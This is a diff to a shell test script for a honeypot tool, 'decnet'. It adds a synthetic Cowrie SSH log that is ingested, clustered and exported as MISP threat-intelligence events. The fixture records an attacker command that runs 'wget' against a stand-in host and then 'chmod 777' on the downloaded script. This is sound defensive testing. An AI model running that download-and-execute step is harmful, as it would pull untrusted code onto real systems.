@@ -14,13 +14,20 @@ if ! python3 -m venv "$scratch/venv" ||
 fi
 
 export DECNET_HOME=$scratch/home
+example=198.51.100.88
 if [ $# -eq 0 ]; then
   ./decnet demo --data "$DECNET_HOME" >/dev/null
-  # Of the demo's attackers one brings a file from a name.
-  example=198.51.100.61
+  line() {
+    printf '{"sensor":"web-1","session":"feed00c0ffee","src_ip":"%s",%s}\n' "$example" "$1"
+  }
+  {
+    line '"eventid":"cowrie.session.connect","timestamp":"2026-09-14T05:00:00.1Z","protocol":"ssh"'
+    line '"eventid":"cowrie.command.input","timestamp":"2026-09-14T05:00:02.1Z","input":"uname -a; wget http://files.example/x.sh; chmod 777 x.sh"'
+    line '"eventid":"cowrie.session.file_download","timestamp":"2026-09-14T05:00:03.1Z","url":"http://files.example/x.sh","outfile":"x","shasum":"0d5a8f8e0d5a8f8e0d5a8f8e0d5a8f8e0d5a8f8e0d5a8f8e0d5a8f8e0d5a8f8e"'
+  } >"$scratch/cowrie.json"
+  ./decnet ingest --json "$scratch/cowrie.json" | tail -1
 else
   ./decnet ingest --json "$@" | tail -1
-  example=
 fi
 ./decnet cluster >/dev/null
 ./decnet export fleet --format misp --out "$scratch/fleet.json"
@@ -28,7 +35,7 @@ fi
 cmp "$scratch/fleet.json" "$scratch/again.json"
 DECNET_MISP_SCOPE=attacker DECNET_MISP_CREDENTIALS=true \
   ./decnet export fleet --format misp --tlp amber --out "$scratch/attackers.json"
-if [ -n "$example" ]; then
+if [ $# -eq 0 ]; then
   ./decnet export attacker "$example" --format misp --out "$scratch/example.json"
 fi
 
@@ -96,7 +103,7 @@ for path in sys.argv[1:]:
     print("misp: valid:", len(documents), "events", dict(sorted(seen.items())))
     if path.endswith("example.json"):
         types = set(seen)
-        assert {"ip-src", "file", "cluster"} <= types and types & {"domain", "url"}, types
+        assert {"ip-src", "file", "domain", "url", "cluster"} <= types, types
 PY
-rm "$scratch/again.json"
+rm -f "$scratch/again.json" "$scratch/cowrie.json"
 "$scratch/venv/bin/python" "$scratch/check.py" "$scratch"/*.json
